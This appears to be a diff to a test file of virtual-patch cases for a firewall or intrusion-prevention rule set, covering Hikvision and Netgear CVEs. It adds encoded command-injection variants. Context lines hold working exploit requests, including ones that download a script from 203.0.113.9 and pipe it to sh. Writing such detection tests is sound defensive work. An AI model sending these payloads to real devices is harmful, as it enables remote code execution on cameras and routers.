@@ -258,10 +258,11 @@ def virtual_patch_cases() -> None:
     _vpatch_case(
         "vpatch-hikvision-cve-2021-36260", (9100100,),
         [_request("PUT", "/SDK/webLanguage", xml + b"<language>$(id>webLib/x)</language>"),
-         _request("PUT", "/SDK/webLanguage", xml + b"<language>`wget http://203.0.113.9/h -O-|sh`</language>")],
+         _request("PUT", "/SDK/webLanguage", xml + b"<language>`wget http://203.0.113.9/h -O-|sh`</language>"),
+         _request("PUT", "/SDK/webLanguage", xml + b'<Language lang="x">&#36;(id)</Language>')],
         [_request("GET", "/SDK/webLanguage"),
          _request("PUT", "/SDK/webLanguage", xml + b"<language>English</language>")],
-        {9100100: 2}, "Hikvision webLanguage: $( and backticks in <language> drop; a GET and a real language pass")
+        {9100100: 3}, "Hikvision webLanguage: $( and backticks in <language> drop; a GET and a real language pass")
     _vpatch_case(
         "vpatch-hikvision-cve-2017-7921", (9100101,),
         [_request("GET", "/Security/users?auth=YWRtaW46MTEK"),
@@ -332,10 +333,11 @@ def virtual_patch_cases() -> None:
     _vpatch_case(
         "vpatch-netgear-cve-2016-6277", (9100111,),
         [_request("GET", "/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://203.0.113.9/n;sh${IFS}n"),
-         _request("GET", "/cgi-bin/%3bid")],
+         _request("GET", "/cgi-bin/%3bid"),
+         _request("GET", "/cgi-bin/%0aid")],
         [_request("GET", "/cgi-bin/luci/;stok=0123abcd/admin/status"),
          _request("GET", "/cgi-bin/genie.cgi?t=1")],
-        {9100111: 2}, "Netgear: a shell metacharacter right after /cgi-bin/ drops; CGI paths pass")
+        {9100111: 3}, "Netgear: a shell metacharacter right after /cgi-bin/ drops; CGI paths pass")
 
 
 if __name__ == "__main__":
